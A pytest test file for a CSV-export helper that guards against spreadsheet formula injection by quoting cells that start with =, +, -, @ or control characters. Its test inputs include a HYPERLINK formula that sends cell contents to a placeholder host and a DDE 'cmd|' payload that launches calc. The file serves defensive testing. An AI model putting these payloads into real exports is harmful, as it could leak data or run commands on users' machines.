"""Tests of isgrille.analysis.spreadsheet: CSV that is safe to open in a spreadsheet.

Each dangerous first character (OWASP's list) is neutralised with a single
quote, text that only contains one elsewhere is left alone, numbers the kit
computes stay numbers (negative ones included), and what ``write_csv``
writes is read back by the csv module cell for cell.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from isgrille.analysis.spreadsheet import FORMULA_STARTS, safe_cell, write_csv


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SOMME(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1",
])
def test_a_cell_that_could_be_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


def test_the_list_is_owasps_plus_nul():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "\0"}


@pytest.mark.parametrize("text", ["La Recyclerie", "a=b", "x-1", "'=déjà protégé", " =1", "", "100 %", "é@"])
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(("value", "cell"), [
    (0, "0"), (12, "12"), (-3, "-3"), (66.7, "66.7"), (-0.5, "-0.5"), (100.0, "100.0"), (None, ""),
])
def test_numbers_stay_numbers_and_none_is_empty(value, cell):
    assert safe_cell(value) == cell


def test_text_that_looks_like_a_negative_number_is_text():
    assert safe_cell("-3") == "'-3"


def test_other_values_are_text_and_neutralised_too():
    assert safe_cell(Path("=x") / "r.json") == "'=x/r.json"
    assert safe_cell(True) == "True"


def test_write_csv_round_trips_through_the_csv_module():
    rows = [
        ["project", "learner", "count", "percent"],
        ['=HYPERLINK("http://x.invalid","a,b")', "Ana\nBel", 3, 66.7],
        ["@cmd", "-Zoé", -1, None],
    ]
    out = io.StringIO()
    assert write_csv(iter(rows), out) == 3
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["project", "learner", "count", "percent"],
        ['\'=HYPERLINK("http://x.invalid","a,b")', "Ana\nBel", "3", "66.7"],
        ["'@cmd", "'-Zoé", "-1", ""],
    ]
    assert out.getvalue().startswith("project,learner,count,percent\n")


def test_write_csv_of_nothing_writes_nothing():
    out = io.StringIO()
    assert write_csv([], out) == 0 and out.getvalue() == ""
